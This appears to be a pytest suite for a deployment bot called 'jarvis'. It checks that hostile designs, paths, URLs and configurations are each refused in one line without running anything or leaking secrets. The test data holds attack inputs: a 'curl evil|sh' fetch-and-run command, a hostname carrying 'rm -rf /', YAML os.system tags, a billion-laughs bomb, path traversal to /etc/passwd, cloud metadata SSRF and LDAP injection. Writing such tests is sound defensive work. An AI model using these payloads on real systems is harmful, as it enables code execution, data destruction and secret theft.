"""Hostile input, tried as an attacker would: designs, sources and configurations that
must each be refused with one clear line, run nothing, leak no secret, print no
traceback and stay within bounded memory.

Designs go through a real chat path (the test adapter in front of the whole bot,
reading files under ``sources.file.roots``) and a sample of them through the real
``jarvis deploy`` process under an address-space limit; configurations through
``jarvis check-config``. The cases are data, so a new attack is one more line.
"""
from __future__ import annotations

import os
import re
import resource
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from bot.testing import TestBot
from clipboard import config as config_mod
from tests.aio import LoopThread, bot_in_thread
from tests.site import CORE_PIPELINES

pytestmark = pytest.mark.servers  # starts worker processes, servers or jarvis

ROOT = Path(__file__).resolve().parents[1]
SECRET = "hunter2-s3cr3t-Pa55w0rd"
DEPLOY_LIMIT = 1536 * 1024 * 1024   # address space for one `jarvis deploy` process

GOOD = "instance:\n  hostname: thor\n  provider: local\n"


def nested(depth: int) -> str:
    return "instance:\n  hostname: deep\n  description: " + "[" * depth + "]" * depth + "\n"


def laughs(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for n in range(1, levels):
        refs = ",".join([f"*a{n - 1}"] * 10)
        lines.append(f"a{n}: &a{n} [{refs}]")
    return "instance:\n  hostname: lol\n" + "\n".join(lines) + "\n"


# (case id, design text, what the one refusal line must say)
DESIGNS: list[tuple[str, str | bytes, str]] = [
    ("node-from-design", GOOD + "node: {provider: local, name: victim}\n", r"`node` is written by"),
    ("node-id-ec2", GOOD + "node: {id: i-0123456789abcdef0}\n", r"`node` is written by"),
    ("ssh-preset", GOOD + "ssh: {host: 10.0.0.1, port: 22}\n", r"`ssh` is written by"),
    ("dns-preset", GOOD + "dns: {records: [victim]}\n", r"`dns` is written by"),
    ("ldap-preset", GOOD + "ldap: {dn: 'cn=victim,ou=Hosts,dc=x'}\n", r"`ldap` is written by"),
    ("keys-preset", GOOD + "keys: {published: true}\n", r"`keys` is written by"),
    ("silence-traversal", GOOD + "monitoring: {suppressed: true, silence_id: "
     "'../../../admin/wipe?all=true&x='}\n", r"`monitoring` is written by"),
    ("inventory-preset", GOOD + "inventory: {production: false}\n", r"`inventory` is written by"),
    ("deploy-key-preset", GOOD + "deploy_key: {private_key: x}\n", r"`deploy_key` is written by"),
    ("configmgmt-preset", GOOD + "configmgmt: {command: 'curl evil|sh'}\n", r"`configmgmt` is written by"),
    ("force-top", GOOD + "force: true\n", r"`force`.*operator"),
    ("jarvis-block", GOOD + "jarvis: {force: true, requested_by: admin}\n", r"`jarvis`"),
    ("jarvis-uppercase", GOOD + "JARVIS: {force: true}\n", r"`jarvis`"),
    ("node-capitalised", GOOD + "Node: {name: victim}\n", r"`node` is written by"),
    ("pipeline-key", GOOD + "pipeline: [nosuch:task]\n", r"`pipeline`"),
    ("unknown-top", GOOD + "whatever: 1\n", r"`whatever`"),
    ("unknown-field", GOOD + "  evil: 1\n", r"`evil`|evil"),
    ("duplicate-hostname", "instance:\n  hostname: loki\n  hostname: thor\n  provider: local\n",
     r"'hostname' twice"),
    ("duplicate-top", GOOD + "instance:\n  hostname: thor\n", r"'instance' twice"),
    ("duplicate-nested", GOOD + "notes:\n  a: 1\n  a: 2\n", r"'a' twice"),
    ("billion-laughs", laughs(), r"expands to more than|nodes"),
    ("deep-nesting", nested(20000), r"nested too deeply|not valid YAML|nodes"),
    ("python-tag", "instance: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
     r"tag that is not allowed"),
    ("python-name-tag", "instance:\n  hostname: !!python/name:os.system\n", r"tag that is not allowed"),
    ("top-level-list", "- instance: {hostname: loki}\n", r"mapping at the top level"),
    ("empty", "", r"empty|mapping at the top level"),
    ("scalar", "just a string\n", r"mapping at the top level"),
    ("multi-document", GOOD + "---\n" + GOOD, r"not valid YAML|one document|single document"),
    ("bad-indent", "instance:\n\thostname: loki\n", r"not valid YAML"),
    ("invalid-utf8", b"instance:\n  hostname: \xff\xfe\n", r"not valid YAML|UTF-8|utf-8"),
    ("nul-bytes", "instance:\n  hostname: lo\x00ki\n", r"not valid YAML|hostname"),
    ("list-key", "? [a, b]\n: 1\n" + GOOD, r"unhashable key|mapping key of type"),
    ("too-big", GOOD + "notes: '" + "x" * (1024 * 1024 + 10) + "'\n", r"over the limit"),
    ("no-instance", "notes: {a: 1}\n", r"instance|hostname"),
    ("instance-scalar", "instance: loki\n", r"instance"),
    ("hostname-shell", "instance:\n  hostname: 'loki; rm -rf /'\n  provider: local\n", r"hostname"),
    ("hostname-traversal", "instance:\n  hostname: ../../etc\n  provider: local\n", r"hostname"),
    ("hostname-long", "instance:\n  hostname: " + "a" * 64 + "\n  provider: local\n", r"hostname"),
    ("hostname-missing", "instance:\n  provider: local\n", r"hostname"),
    ("fqdn-foreign", GOOD + "  fqdn: victim.example.com\n", r"fqdn"),
    ("cluster-huge-count", "cluster: big\nhosts:\n  - {hostname: 'web{n}', count: 100000000}\n",
     r"max_hosts|hosts"),
    ("cluster-sum-over", "cluster: big\nhosts:\n" + "".join(
        f"  - {{hostname: 'w{i}x{{n}}', count: 1000}}\n" for i in range(3)), r"max_hosts|hosts"),
    ("cluster-negative", "cluster: neg\nhosts:\n  - {hostname: 'web{n}', count: -5}\n", r"count"),
    ("cluster-count-string", "cluster: s\nhosts:\n  - {hostname: 'web{n}', count: lots}\n", r"count"),
    ("cluster-node-in-role", ("cluster: r\nroles:\n  db:\n    instance: {provider: local}\n"
      "    node: {name: victim}\nhosts:\n  - {hostname: db1, role: db}\n"), r"node"),
    ("secret-in-forbidden-key", GOOD + f"  root_password: {SECRET}\nnode: {{name: {SECRET}}}\n",
     r"`node` is written by"),
    ("secret-in-duplicate", GOOD + f"  root_password: {SECRET}\n  root_password: {SECRET}x\n",
     r"'root_password' twice"),
    ("secret-in-bad-yaml", GOOD + f"  root_password: [{SECRET}\n", r"not valid YAML"),
    ("notify-preset", GOOD + "notify: {rooms: ['irc:#ops'], line: 'all hosts wiped'}\n",
     r"`notify`"),
    ("hostname-homoglyph", "instance:\n  hostname: l\u043eki\n  provider: local\n", r"hostname"),
    ("approval-in-notes-and-jarvis", GOOD + "notes: {approved_by: console:boss}\n"
     "jarvis: {approved_by: console:boss}\n", r"`jarvis`"),
    ("cluster-entry-node", "cluster: e\nhosts:\n  - {hostname: db1, node: {name: victim}}\n", r"node"),
]


def write_config(tmp: Path, **extra: object) -> Path:
    data = {"store": {"path": str(tmp / "jarvis.db")},
            "pipelines": CORE_PIPELINES,
            "sources": {"file": {"roots": [str(tmp / "designs")]}},
            "clusters": {"max_hosts": 100}}
    data.update(extra)
    path = tmp / "jarvis.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LoopThread, TestBot, Path]]:
    tmp = tmp_path_factory.mktemp("hostile")
    (tmp / "designs").mkdir()
    with bot_in_thread(config_mod.load(write_config(tmp))) as (loop, bot):
        yield loop, bot, tmp


def answer_to(hostile, text: str, marker: str) -> list[str]:
    """The first answer to ``text`` and every line after it, up to the answer to a
    marker query said once that first answer arrived (so a second line would show)."""
    loop, bot, _ = hostile

    async def go() -> list[str]:
        first = await bot.ask(text, timeout=30, local=False)
        await bot.say(f"status {marker}", local=False)
        lines = await bot.lines_until(rf"^{marker}: never deployed", timeout=30)
        return [first, *lines[:-1]]
    return loop.run(go(), 60)


def stored_steps(tmp: Path) -> int:
    with sqlite3.connect(tmp / "jarvis.db") as db:
        return db.execute("SELECT count(*) FROM steps").fetchone()[0]


@pytest.mark.parametrize("case, text, expected", DESIGNS, ids=[c[0] for c in DESIGNS])
def test_a_hostile_design_is_refused_in_one_line_before_anything_runs(
        hostile, case: str, text: str | bytes, expected: str) -> None:
    _loop, _bot, tmp = hostile
    path = tmp / "designs" / f"{case}.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass"))
    before_rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    before_steps = stored_steps(tmp)
    for dry in ("", " --dry-run"):
        lines = answer_to(hostile, f"deploy {path}{dry}", f"marker-{case.replace('_', '-')}")
        assert len(lines) == 1, lines
        assert re.search(expected, lines[0]), lines[0]
        assert "Traceback" not in lines[0] and len(lines[0]) < 400
        assert SECRET not in lines[0] and SECRET[:8] not in lines[0]
    assert stored_steps(tmp) == before_steps, "a refused design ran a step"
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_rss
    assert grown < 200 * 1024, f"memory grew by {grown} KiB"


FILES_FROM_CHAT = [
    ("outside-root", lambda tmp: "/etc/passwd", r"not under|sources\.file\.roots"),
    ("proc-kmsg", lambda tmp: "/proc/kmsg", r"not under|sources\.file\.roots"),
    ("dotdot-escape", lambda tmp: f"{tmp}/designs/../jarvis.yaml", r"not under|sources\.file\.roots"),
    ("symlink-escape", lambda tmp: _link(tmp, "escape.yaml", tmp / "jarvis.yaml"),
     r"not under|sources\.file\.roots|symlink"),
    ("fifo-in-root", lambda tmp: _fifo(tmp), r"not a regular file"),
    ("directory-in-root", lambda tmp: f"{tmp}/designs", r"not a regular file|directory"),
    ("missing-in-root", lambda tmp: f"{tmp}/designs/nosuch.yaml", r"no such file|not found|does not exist"),
]


def _link(tmp: Path, name: str, target: Path) -> str:
    link = tmp / "designs" / name
    if not link.is_symlink():
        link.symlink_to(target)
    return str(link)


def _fifo(tmp: Path) -> str:
    fifo = tmp / "designs" / "fifo.yaml"
    if not fifo.exists():
        os.mkfifo(fifo)
    return str(fifo)


@pytest.mark.parametrize("case, where, expected", FILES_FROM_CHAT, ids=[c[0] for c in FILES_FROM_CHAT])
def test_chat_reads_design_files_only_under_the_configured_roots(
        hostile, case: str, where, expected: str) -> None:
    _loop, _bot, tmp = hostile
    path = where(tmp)
    for dry in ("", " --dry-run"):
        lines = answer_to(hostile, f"deploy {path}{dry}", f"marker-{case}")
        assert len(lines) == 1, lines
        assert re.search(expected, lines[0]), lines[0]
        assert "root:" not in lines[0] and SECRET not in lines[0]


TOKEN = "ghp_Zx8kQ2mN7vR4tY6uP0sL"

# (case id, what follows `deploy`, what the one refusal line must say)
SOURCES = [
    ("url-loopback", "http://127.0.0.1:9/design.yaml", r"loopback|not allowed|private|refus"),
    ("url-metadata", "http://169.254.169.254/latest/meta-data/", r"link-local|not allowed|private|refus"),
    ("url-file-scheme", "file:///etc/passwd", r"scheme|not under|sources\.file\.roots|no such file"),
    ("url-credentials", f"https://deploy:{TOKEN}@127.0.0.1/x.yaml", r"loopback|not allowed|private|refus"),
    ("ldap-filter-injection", "cn=*)(uid=*", r"cn=|LDAP|ldap"),
    ("gist-id-garbage", "https://gist.github.com/../../etc/passwd", r"gist|not allowed|refus|address"),
]


@pytest.mark.parametrize("case, where, expected", SOURCES, ids=[c[0] for c in SOURCES])
def test_a_hostile_source_is_refused_in_one_line_without_echoing_credentials(
        hostile, case: str, where: str, expected: str) -> None:
    lines = answer_to(hostile, f"deploy {where}", f"marker-{case}")
    assert len(lines) == 1, lines
    assert re.search(expected, lines[0]), lines[0]
    assert TOKEN not in lines[0] and "Traceback" not in lines[0]


def jarvis(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (DEPLOY_LIMIT, DEPLOY_LIMIT))
    return subprocess.run([sys.executable, "-m", "bot.cli", *args], text=True,
                          capture_output=True, env=env, cwd=ROOT, timeout=120, preexec_fn=limit)


def cli_env(tmp: Path) -> dict[str, str]:
    """The caller's environment, with no configuration of its own and state under ``tmp``."""
    env = {k: v for k, v in os.environ.items() if k != "JARVIS_CONFIG"}
    env["XDG_STATE_HOME"] = str(tmp / "state")
    return env


CLI_SAMPLE = ["node-from-design", "duplicate-hostname", "billion-laughs", "deep-nesting",
              "python-tag", "cluster-huge-count", "invalid-utf8", "silence-traversal"]


def test_the_cli_refuses_the_same_designs_in_one_line_within_bounded_memory(tmp_path: Path) -> None:
    env = cli_env(tmp_path)
    cases = {case: (text, expected) for case, text, expected in DESIGNS}
    for case in CLI_SAMPLE:
        text, expected = cases[case]
        path = tmp_path / f"{case}.yaml"
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        result = jarvis("deploy", str(path), env=env)
        assert result.returncode == 2, (case, result.stdout, result.stderr)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and re.search(expected, lines[0]), (case, result.stderr)
        assert "Traceback" not in result.stdout + result.stderr
    assert not (tmp_path / "state" / "jarvis" / "local").exists(), "a refused design made a node"


# (case id, configuration text, what check-config must say)
CONFIGS: list[tuple[str, str, str]] = [
    ("not-a-mapping", "- a\n- b\n", r"mapping"),
    ("duplicate-key", "store:\n  path: /tmp/a.db\nstore:\n  path: /tmp/b.db\n", r"'store' twice"),
    ("unknown-key", "bogus: 1\n", r"bogus"),
    ("negative-timeout", "runner:\n  step_timeout: -5\n", r"step_timeout"),
    ("timeout-string", "runner:\n  step_timeout: soon\n", r"step_timeout"),
    ("port-out-of-range", "chat:\n  irc:\n    enabled: true\n    port: 70000\n    nick: j\n", r"port"),
    ("negative-rate", "chat:\n  irc:\n    rate: -1\n", r"rate"),
    ("max-hosts-zero", "clusters:\n  max_hosts: 0\n", r"max_hosts"),
    ("unknown-step", "pipelines:\n  deploy:\n    steps: [core:validate, nosuch:task]\n", r"nosuch:task"),
    ("python-tag", "store: !!python/object/apply:os.system ['true']\n", r"tag"),
    ("laughs", laughs(), r"nodes|lol|a0"),
]


@pytest.mark.parametrize("case, text, expected", CONFIGS, ids=[c[0] for c in CONFIGS])
def test_check_config_refuses_a_hostile_configuration_in_clear_lines(
        tmp_path: Path, case: str, text: str, expected: str) -> None:
    env = cli_env(tmp_path)
    path = tmp_path / "jarvis.yaml"
    path.write_text(text)
    result = jarvis("check-config", str(path), env=env)
    assert result.returncode != 0, (case, result.stdout)
    assert re.search(expected, result.stdout + result.stderr), (case, result.stdout + result.stderr)
    assert "Traceback" not in result.stdout + result.stderr


@pytest.mark.parametrize("text", ["chat:\n", "chat:\n  irc:\n", "sources: ~\n", "acl:\n"])
def test_an_empty_section_means_its_defaults(tmp_path: Path, text: str) -> None:
    """``acl:`` left empty once replaced every rule with nothing, and ``chat:`` crashed."""
    env = cli_env(tmp_path)
    path = tmp_path / "jarvis.yaml"
    path.write_text(text)
    result = jarvis("check-config", str(path), env=env)
    assert result.returncode == 0 and result.stdout.strip().endswith("ok"), result.stdout + result.stderr
    loaded, default = config_mod.load(path).data, config_mod.load(None).data
    for data in (loaded, default):
        data["acl"].pop("*", None)          # the embedded default's catch-all, empty anyway
    assert loaded == default
